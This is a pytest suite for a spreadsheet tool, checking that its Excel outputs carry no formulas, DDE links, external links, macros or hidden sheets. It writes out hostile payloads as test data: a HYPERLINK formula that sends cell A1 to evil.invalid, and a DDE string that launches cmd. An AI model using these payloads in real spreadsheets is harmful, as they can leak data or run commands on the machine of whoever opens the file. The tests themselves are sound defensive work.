"""Hostile suite, formulas: no user text becomes a formula, no active content is carried over.

One module-scoped "world" puts injection strings into every text column of the schema and
of the capacity template, runs every writer once (run -> report.xlsx, compare, sweep,
capacity check --annotate, capacity merge, template input / capacity) and the cases below
inspect what was written, at the level of the file's XML.  Further cases hand
``capacity check --annotate`` and ``capacity merge`` files with active content (DDE,
external links, macros, hidden sheets, defined names, shared/array formulas, validation
formulas, hyperlinks, comments) and check that none of it reaches the copy.
"""
from __future__ import annotations

import copy
import csv
import datetime as dt
import functools
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from nabb.capacity.layout import COORDINATOR_FIELDS, TABLES as CAPACITY_TABLES
from nabb.io.cells import audit_xlsx, needs_quote, write_cell
from nabb.io.template import write_input_workbook
from nabb.schema import SHEETS
from tests.cases import ONE_REGION, SETTINGS_ONE
from tests.hostile import check_guarantees, invoke, snapshot

pytestmark = pytest.mark.hostile

HYPERLINK = '=HYPERLINK("http://evil.invalid/?x="&A1,"Groningen")'
DDE = "=cmd|' /C calc'!A0"
STRINGS = {"hyperlink": HYPERLINK, "dde": DDE, "plus": "+1+1", "minus": "-2+3",
           "at": "@SUM(A1)", "tab": "\t=1", "fullwidth": "\uff1d1+1"}

#: Codes (referenced from other sheets) renamed everywhere to hostile text; no leading
#: whitespace here, since codes are trimmed when read.
CODES = {"A": DDE, "hemp": "+1+1", "straw": "-2+3", "wool": "@SUM(A1)", "decort": "=decort()",
         "P1": "\uff1dP1", "conv": "-conv", "bio": "@bio", "house": "=house"}
SOURCE = "+src1"


def _free_text_columns() -> list[tuple[str, str]]:
    """(sheet, column) of every free-text column of the schema (no allowed list, no reference)."""
    out = []
    for s in SHEETS:
        for c in s.columns:
            if c.type == "str" and not c.allowed and not c.references and c.name != "source":
                out.append((s.name, c.name))
    return out


STRUCTURAL = {("scenarios", "scenario"), ("scenarios", "parent"), ("scenarios", "sheet"),
              ("scenarios", "column"), ("scenarios", "filter"), ("sources", "source_id"),
              # the uncertainty sheet addresses cells like the scenarios sheet; values and
              # correlation are parsed as numbers
              ("uncertainty", "sheet"), ("uncertainty", "column"), ("uncertainty", "filter"),
              ("uncertainty", "values"), ("uncertainty", "correlation")}
FREE_TEXT = [sc for sc in _free_text_columns() if sc not in STRUCTURAL and sc[1] not in
             ("region", "commodity", "crop", "process", "plant", "recipe", "building_type")]


def _hostile_tables(variant: int = 0) -> dict[str, pd.DataFrame]:
    t = copy.deepcopy(ONE_REGION)
    for rows in t.values():
        for r in rows:
            for k, v in list(r.items()):
                if isinstance(v, str) and v in CODES:
                    r[k] = CODES[v]
    t["contracted_area"] = [dict(region=DDE, crop="+1+1", year=2030, area_ha=10.0)]
    t["sources"] = [dict(source_id=SOURCE, kind="estimate")]
    # one row in every sheet, so that every free-text column carries a hostile string
    t["build_systems"] = [dict(system="hsb", base_units_per_year=0.0, max_growth_units_per_year=1e6)]
    t["scenarios"] = [dict(scenario="dearer", sheet="policy", column="carbon_price_eur_per_t",
                           filter="*", value=50.0)]
    t["uncertainty"] = [dict(parameter="yield", sheet="crops", column="yield_t_per_ha", filter="*",
                             distribution="triangular", low=6.0, mode=8.0, high=10.0)]
    values = list(STRINGS.values())
    for i, (sheet, col) in enumerate(FREE_TEXT):
        for r in t.setdefault(sheet, []):
            r[col] = values[(i + variant) % len(values)]
    for sheet, rows in t.items():
        if any(c.name == "source" for c in next(s for s in SHEETS if s.name == sheet).columns):
            for r in rows:
                r["source"] = SOURCE
    return {k: pd.DataFrame(v) for k, v in t.items()}


def expected_free_text(sheet: str, col: str, variant: int = 0) -> str:
    values = list(STRINGS.values())
    return values[(FREE_TEXT.index((sheet, col)) + variant) % len(values)]


CAPACITY_TEXT = {"coordinator": HYPERLINK, "contact": "@evil.invalid"}
PLANT_NAMES = {"existing_plants": "=HYPERLINK(\"http://evil.invalid\",\"Mill\")",
               "planned_plants": "+plant2"}


def _fill_capacity(blank: Path, out: Path, processes: str, crop: str) -> Path:
    wb = load_workbook(blank)
    c = wb["coordinator"]
    write_cell(c["B3"], DDE)
    write_cell(c["B4"], CAPACITY_TEXT["coordinator"])
    write_cell(c["B5"], CAPACITY_TEXT["contact"])
    c["B6"] = dt.date(2026, 3, 1)
    ex = wb["existing_plants"]
    for j, v in enumerate([PLANT_NAMES["existing_plants"], processes, 20000, 1998, 0.8], 1):
        write_cell(ex.cell(row=3, column=j), v)
    pl = wb["planned_plants"]
    for j, v in enumerate([PLANT_NAMES["planned_plants"], processes, 30000, 2030, "financed"], 1):
        write_cell(pl.cell(row=3, column=j), v)
    ar = wb["contracted_area"]
    for j, v in enumerate([crop, 2030, 12.5], 1):
        write_cell(ar.cell(row=3, column=j), v)
    wb.save(out)
    return out


class World:
    root: Path
    outputs: dict[str, Path]
    output_text: dict[str, str]


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    w = World()
    root = w.root = tmp_path_factory.mktemp("formulas")
    write_input_workbook(root / "a.xlsx", _hostile_tables(0), SETTINGS_ONE)
    write_input_workbook(root / "b.xlsx", _hostile_tables(1), SETTINGS_ONE)
    w.outputs, w.output_text = {}, {}

    def run(args, outputs, inputs):
        before = snapshot(root)
        res = invoke([str(a) for a in args], root)
        check_guarantees(res, before, root, outputs=outputs, inputs=inputs)
        return res

    r = run(["run", "a.xlsx", "--out", "ra"], ["ra"], ["a.xlsx"])
    assert r.exit_code == 0, r.output
    r = run(["run", "b.xlsx", "--out", "rb"], ["rb"], ["b.xlsx"])
    assert r.exit_code == 0, r.output
    w.outputs["report"] = root / "ra" / "base" / "report.xlsx"
    r = run(["compare", "ra/base", "rb/base", "-o", "cmp.xlsx"], ["cmp.xlsx"], [])
    assert r.exit_code == 0, r.output
    w.outputs["compare"] = root / "cmp.xlsx"
    r = run(["sweep", "a.xlsx", "--param", "carbon_price", "--values", "0,100", "--out", "sw"],
            ["sw"], ["a.xlsx"])
    assert r.exit_code == 0, r.output
    w.outputs["sweep"] = root / "sw" / "sweep.xlsx"
    r = run(["template", "input", "tpl.xlsx"], ["tpl.xlsx"], [])
    assert r.exit_code == 0, r.output
    w.outputs["template_input"] = root / "tpl.xlsx"
    r = run(["template", "capacity", "cap_blank.xlsx", "--workbook", "a.xlsx"],
            ["cap_blank.xlsx"], ["a.xlsx"])
    assert r.exit_code == 0, r.output
    w.outputs["template_capacity"] = root / "cap_blank.xlsx"
    _fill_capacity(root / "cap_blank.xlsx", root / "cap.xlsx", CODES["decort"], CODES["hemp"])
    r = run(["capacity", "check", "cap.xlsx", "--workbook", "a.xlsx", "--annotate", "annot.xlsx"],
            ["annot.xlsx"], ["cap.xlsx", "a.xlsx"])
    assert r.exit_code in (0, 1), r.output
    w.outputs["annotated"] = root / "annot.xlsx"
    r = run(["capacity", "merge", "cap.xlsx", "--into", "a.xlsx", "-o", "merged.xlsx"],
            ["merged.xlsx"], ["cap.xlsx", "a.xlsx"])
    assert r.exit_code == 0, r.output
    w.outputs["merged"] = root / "merged.xlsx"
    return w


@functools.lru_cache(maxsize=None)
def _book(path: Path):
    """A written workbook, loaded once for all the cases that only read it."""
    return load_workbook(path)


@functools.lru_cache(maxsize=None)
def _texts(path: Path) -> dict[str, list[tuple[str, str, bool]]]:
    """Every text cell of every sheet: sheet -> [(coordinate, text, quote prefix)]."""
    wb = _book(path)
    out: dict[str, list[tuple[str, str, bool]]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    out.setdefault(ws.title, []).append((c.coordinate, c.value, bool(c.quotePrefix)))
    return out


WRITERS = ["report", "compare", "sweep", "template_input", "template_capacity", "annotated",
           "merged"]


# ------------------------------------------------------------------ every written workbook
@pytest.mark.parametrize("writer", WRITERS)
def test_no_formula_and_no_active_content(world, writer):
    """The file's XML: no <f> in any worksheet, no links, macros or hidden sheets."""
    assert audit_xlsx(world.outputs[writer]) == []


@pytest.mark.parametrize("writer", WRITERS)
def test_every_risky_text_is_quote_prefixed(world, writer):
    risky = [(s, c, t) for s, cells in _texts(world.outputs[writer]).items()
             for c, t, q in cells if needs_quote(t) and not q]
    assert risky == []


# which hostile strings reach which workbook: the report shows codes and the region name (not
# descriptions or sources), compare.xlsx also the input differences, sweep.xlsx the scenario's
# codes in its Run sheet, the annotated copy the coordinator block and the codes
REACHES = {
    "report": ["hyperlink", "dde", "plus", "minus", "at"],
    "compare": list(STRINGS),
    "sweep": ["plus"],
    "annotated": ["hyperlink", "dde", "plus"],
    "merged": list(STRINGS),
}


@pytest.mark.parametrize("writer,name", [(w, n) for w, ns in REACHES.items() for n in ns])
def test_hostile_string_is_written_as_text(world, writer, name):
    text = STRINGS[name]
    cells = [(s, c, t, q) for s, cells in _texts(world.outputs[writer]).items()
             for c, t, q in cells if text in t or text.strip() in t]
    assert cells, f"{text!r} not found in {writer}"
    for s, c, t, q in cells:
        assert q or not needs_quote(t), (s, c, t)


def test_region_name_on_the_charts_sheet_is_text(world):
    """Issue 10 item 4: a region name =HYPERLINK(...) became a live formula on Charts."""
    hits = [(c, q) for c, t, q in _texts(world.outputs["report"])["Charts"] if t == HYPERLINK]
    assert hits and all(q for _, q in hits)
    with zipfile.ZipFile(world.outputs["report"]) as z:
        for n in z.namelist():
            if n.startswith("xl/charts/"):
                xml = z.read(n).decode("utf-8")
                # series names and categories refer to cells: every <c:f> is a cell range
                for f in re.findall(r"<c:f>(.*?)</c:f>", xml):
                    assert re.fullmatch(r"'?[A-Za-z ]+'?!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?", f), (n, f)
                # the chart's cached copy of the region name is a plain string value (<c:v>)
                for m in re.finditer("evil.invalid", xml):
                    assert xml.rfind("<c:v>", 0, m.start()) > xml.rfind("</c:v>", 0, m.start()), n


def test_bottleneck_text_of_nabb_itself_is_quote_prefixed(world):
    """Issue 10 item 6: nabb's own '+300 ha/yr' text in Bottlenecks had no quote prefix."""
    texts = [(t, q) for _, t, q in _texts(world.outputs["report"]).get("Bottlenecks", [])]
    plus = [(t, q) for t, q in texts if t.startswith(("+", "-"))]
    assert all(q for _, q in plus)


def test_coordinator_name_in_the_sources_sheet_is_text(world):
    """Issue 10 item 6: the coordinator's name copied into the merged sources sheet."""
    hits = [q for _, t, q in _texts(world.outputs["merged"])["sources"] if t == HYPERLINK]
    assert hits and all(hits)


def test_input_differences_of_compare_are_text(world):
    cells = _texts(world.outputs["compare"])["Input differences"]
    hostile = [(t, q) for _, t, q in cells if any(s.strip() in t for s in STRINGS.values())]
    assert hostile and all(q for t, q in hostile if needs_quote(t))


# the merge replaces the contracted_area row (same crop and year) and writes its own provenance
@pytest.mark.parametrize("writer,sheet,column", [
    (w, s, c) for w in ("input_workbook", "merged") for s, c in FREE_TEXT
    if (w, s, c) != ("merged", "contracted_area", "provenance")])
def test_every_schema_text_column_survives_as_text(world, writer, sheet, column):
    """The input workbook (written by nabb's template writer) and the merged workbook (a copy
    of it) hold every column of the schema."""
    wb = _book(world.root / "a.xlsx" if writer == "input_workbook" else world.outputs[writer])
    ws = wb[sheet]
    j = next(c.column for c in ws[1] if c.value == column)
    cell = ws.cell(row=3, column=j)
    assert cell.value == expected_free_text(sheet, column)
    assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("code", sorted(set(CODES.values())))
def test_every_code_survives_as_text_in_the_merged_copy(world, code):
    hits = [(s, c, q) for s, cells in _texts(world.outputs["merged"]).items()
            for c, t, q in cells if t == code]
    assert hits and all(q for _, _, q in hits)


CAPACITY_TEXT_COLUMNS = [("coordinator", f.name) for f in COORDINATOR_FIELDS if f.type == "str"
                         and f.name != "date"] + \
    [(s.name, c.name) for s in CAPACITY_TABLES for c in s.columns if c.type == "str"
     and c.name != "status"]


@pytest.mark.parametrize("sheet,column", CAPACITY_TEXT_COLUMNS)
def test_every_capacity_text_column_is_text_in_the_annotated_copy(world, sheet, column):
    wb = _book(world.outputs["annotated"])
    ws = wb[sheet]
    if sheet == "coordinator":
        row = next(r for r in range(3, 10) if ws.cell(row=r, column=1).value == column)
        cell = ws.cell(row=row, column=2)
    else:
        j = next(c.column for c in ws[1] if c.value == column)
        cell = ws.cell(row=3, column=j)
    assert isinstance(cell.value, str) and needs_quote(cell.value), cell.value
    assert cell.data_type == "s" and cell.quotePrefix


# ------------------------------------------------------------------ hostile source files
def _cached(path: Path, part: str, value: str) -> None:
    """Give every formula of ``part`` a saved value, as Excel would (openpyxl writes none)."""
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    xml = parts[part].decode()
    xml = re.sub(r"(</f>)<v\s*/>|(</f>)<v></v>|(</f>)(?!<v)", r"\1\2\3<v>" + value + "</v>", xml)
    parts[part] = xml.encode()
    _rezip(path, parts)


def _rezip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts.items():
            z.writestr(n, data)


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def _sheet_part(path: Path, title: str) -> str:
    wb = load_workbook(path)
    return f"xl/worksheets/sheet{wb.sheetnames.index(title) + 1}.xml"


def _add_external_link(path: Path, dde: bool) -> None:
    parts = _parts(path)
    ct = parts["[Content_Types].xml"].decode().replace(
        "</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    rels = parts["xl/_rels/workbook.xml.rels"].decode().replace(
        "</Relationships>", '<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
        "</Relationships>")
    wbx = parts["xl/workbook.xml"].decode().replace(
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rIdX1"/>'
        "</externalReferences>", 1)
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' \
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    if dde:
        link = f'<externalLink {ns}><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems>' \
               '<ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
    else:
        link = f'<externalLink {ns}><externalBook r:id="rId1"><sheetNames><sheetName val="S"/>' \
               '</sheetNames></externalBook></externalLink>'
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/externalLinkPath" Target="file:///C:/secret/other.xlsx" '
            'TargetMode="External"/></Relationships>').encode()
    parts["[Content_Types].xml"] = ct.encode()
    parts["xl/_rels/workbook.xml.rels"] = rels.encode()
    parts["xl/workbook.xml"] = wbx.encode()
    parts["xl/externalLinks/externalLink1.xml"] = link.encode()
    _rezip(path, parts)


def _add_macros(path: Path) -> None:
    parts = _parts(path)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
        b'vbaProject"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdV1" Type="http://schemas.microsoft.com/office/'
        b'2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    _rezip(path, parts)


def _edit(kind: str, wb, sheet: str, number_cell: str) -> None:
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation
    from openpyxl.worksheet.formula import ArrayFormula
    from openpyxl.comments import Comment
    ws = wb[sheet]
    if kind in ("dde", "external_link", "formula_in_number_cell", "shared_formula"):
        ws[number_cell] = DDE if kind == "dde" else ("=[1]S!A1" if kind == "external_link"
                                                      else "=1+1")
    elif kind == "array_formula":
        ws[number_cell] = ArrayFormula(number_cell, f"=SUM({number_cell}:{number_cell})*0+5")
    elif kind in ("hidden_sheet", "very_hidden_sheet"):
        h = wb.create_sheet("secret")
        h["A1"] = DDE
        h["A2"] = HYPERLINK
        h.sheet_state = "hidden" if kind == "hidden_sheet" else "veryHidden"
    elif kind == "defined_name":
        wb.defined_names["evil"] = DefinedName("evil", attr_text="[1]S!$A$1")
        wb.defined_names["calc"] = DefinedName("calc", attr_text="cmd|' /C calc'!A0")
    elif kind == "validation_formula":
        dv = DataValidation(type="custom", formula1="HYPERLINK(\"http://evil.invalid\")")
        ws.add_data_validation(dv)
        dv.add("A20")
    elif kind == "hyperlink":
        ws["A20"] = "click"
        ws["A20"].hyperlink = "http://evil.invalid/"
    elif kind == "comment":
        ws["A21"] = "see note"
        ws["A21"].comment = Comment(DDE, "someone")
    elif kind == "dde_on_instructions":  # issue 10 item 5
        wb["instructions"]["A1"] = DDE
    elif kind == "hyperlink_in_coordinator_block":  # issue 10 item 5
        wb["coordinator"]["B4"] = HYPERLINK
    else:
        raise AssertionError(kind)


KINDS = ["dde", "external_link", "formula_in_number_cell", "shared_formula", "array_formula",
         "hidden_sheet", "very_hidden_sheet", "defined_name", "validation_formula", "hyperlink",
         "comment", "macros", "dde_link_part"]
#: What the copy must say it removed, per kind (in the annotated copy's nabb_check sheet, or
#: among the merge's warnings).
REMOVED = {"dde": "formula(s) replaced", "external_link": "external link(s) removed",
           "formula_in_number_cell": "formula(s) replaced", "shared_formula": "formula(s) replaced",
           "array_formula": "formula(s) replaced", "hidden_sheet": "hidden sheet 'secret' removed",
           "very_hidden_sheet": "very hidden sheet 'secret' removed",
           "defined_name": "defined name 'evil' removed", "validation_formula": "data validation",
           "dde_link_part": "external link(s) removed", "dde_on_instructions": "formula(s) replaced",
           "hyperlink_in_coordinator_block": "formula(s) replaced", "macros": "macros removed"}


def _hostile_file(kind: str, src: Path, dst: Path, sheet: str, number_cell: str) -> Path:
    wb = load_workbook(src)
    if kind not in ("macros", "dde_link_part"):
        _edit(kind, wb, sheet, number_cell)
    if kind == "shared_formula":
        ws = wb[sheet]
        col = re.sub(r"\d", "", number_cell)
        ws[f"{col}30"] = 1
        ws[f"{col}31"] = "=1+1"
    wb.save(dst)
    part = _sheet_part(dst, sheet)
    if kind == "shared_formula":  # make the two formulas one shared formula, as Excel writes
        parts = _parts(dst)
        xml = parts[part].decode()
        ref = f"{number_cell}:{col}31"
        xml = xml.replace("<f>1+1</f>", f'<f t="shared" ref="{ref}" si="0">1+1</f>', 1)
        xml = xml.replace("<f>1+1</f>", '<f t="shared" si="0"/>', 1)
        parts[part] = xml.encode()
        _rezip(dst, parts)
    if kind in ("dde", "external_link", "formula_in_number_cell", "shared_formula", "array_formula"):
        _cached(dst, part, "5")
    if kind in ("dde_on_instructions", "hyperlink_in_coordinator_block"):
        sheet = "instructions" if kind == "dde_on_instructions" else "coordinator"
        _cached(dst, _sheet_part(dst, sheet), "0")
    if kind in ("hidden_sheet", "very_hidden_sheet"):
        _cached(dst, f"xl/worksheets/sheet{len(load_workbook(dst).sheetnames)}.xml", "0")
    if kind == "external_link":
        _add_external_link(dst, dde=False)
    if kind in ("dde", "dde_link_part"):
        _add_external_link(dst, dde=True)
    if kind == "macros":
        _add_macros(dst)
    return dst


@pytest.mark.parametrize("kind", KINDS + ["dde_on_instructions", "hyperlink_in_coordinator_block"])
def test_annotated_copy_of_a_hostile_capacity_sheet_is_inert(world, kind, tmp_path):
    src = _fill_capacity(world.outputs["template_capacity"], tmp_path / "good.xlsx",
                         CODES["decort"], CODES["hemp"])
    bad = _hostile_file(kind, src, tmp_path / "bad.xlsx", "existing_plants", "C3")
    shutil.copy(world.root / "a.xlsx", tmp_path / "a.xlsx")
    before = snapshot(tmp_path)
    res = invoke(["capacity", "check", "bad.xlsx", "--workbook", "a.xlsx", "--annotate",
                  "annot.xlsx"], tmp_path)
    check_guarantees(res, before, tmp_path, outputs=["annot.xlsx"], inputs=["bad.xlsx", "a.xlsx"])
    assert res.exit_code in (0, 1, 2), res.output
    out = tmp_path / "annot.xlsx"
    assert out.exists(), res.output
    assert audit_xlsx(out) == []
    rels = b"".join(data for n, data in _parts(out).items() if n.endswith(".rels"))
    assert b"evil.invalid" not in rels and b"secret" not in rels  # no link target survives
    annotated = load_workbook(out)
    assert "secret" not in annotated.sheetnames
    removed = [r[6] for r in annotated["nabb_check"].iter_rows(min_row=2, values_only=True)
               if r[0] == "removed"]
    if kind in REMOVED:
        assert any(REMOVED[kind] in str(r) for r in removed), removed


@pytest.mark.parametrize("kind", KINDS)
def test_merged_workbook_from_a_hostile_scenario_workbook_is_inert(world, kind, tmp_path):
    bad = _hostile_file(kind, world.root / "a.xlsx", tmp_path / "scen.xlsx", "capacity", "D3")
    shutil.copy(world.root / "cap.xlsx", tmp_path / "cap.xlsx")
    before = snapshot(tmp_path)
    res = invoke(["capacity", "merge", "cap.xlsx", "--into", "scen.xlsx", "-o", "merged.xlsx"],
                 tmp_path)
    check_guarantees(res, before, tmp_path, outputs=["merged.xlsx"],
                     inputs=["cap.xlsx", "scen.xlsx"])
    assert res.exit_code in (0, 1), res.output
    out = tmp_path / "merged.xlsx"
    assert audit_xlsx(out) == []
    assert "secret" not in load_workbook(out).sheetnames
    if kind in REMOVED:
        assert REMOVED[kind] in res.output, res.output
    if kind in ("dde", "formula_in_number_cell", "shared_formula", "array_formula",
                "external_link"):
        assert load_workbook(out)["capacity"]["D3"].value == 5  # the value the file saved


@pytest.mark.parametrize("kind,words", [("macros", "macros"), ("external_link", "external link"),
                                        ("very_hidden_sheet", "very hidden"),
                                        ("hidden_sheet", "hidden sheet")])
def test_validate_warns_about_active_content(world, kind, words, tmp_path):
    """Issue 10 item 13: such scenario workbooks validated with 0 warnings."""
    bad = _hostile_file(kind, world.root / "a.xlsx", tmp_path / "scen.xlsx", "policy", "B3")
    before = snapshot(tmp_path)
    res = invoke(["validate", "scen.xlsx"], tmp_path)
    check_guarantees(res, before, tmp_path, inputs=["scen.xlsx"])
    assert res.exit_code == 0, res.output
    assert words in res.output and "0 warning" not in res.output, res.output
    assert bad.exists()


# ------------------------------------------------------------------ LibreOffice sees text
@pytest.mark.slow
def test_libreoffice_shows_the_hostile_region_name_literally(world, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is installed by make test (.ci/apt-packages.txt)"
    wb = load_workbook(world.outputs["report"])
    charts_index = wb.sheetnames.index("Charts")
    # CSV export writes one sheet: the last filter token picks the Charts sheet (LibreOffice >= 7.2)
    src = tmp_path / "report.xlsx"
    shutil.copy(world.outputs["report"], src)
    profile = tmp_path / "lo-profile"
    subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless",
                    "--convert-to", f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,"
                    f"false,false,false,{charts_index + 1}", "--outdir", str(tmp_path), str(src)],
                   check=True, capture_output=True, timeout=120)
    out = tmp_path / "report-Charts.csv"  # LibreOffice names a one-sheet export after the sheet
    assert out.exists(), list(tmp_path.iterdir())
    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
    cells = [c for r in rows for c in r]
    assert HYPERLINK in cells, cells[:40]
    assert "Groningen" not in [c.strip() for c in cells]  # the formula's result never shows
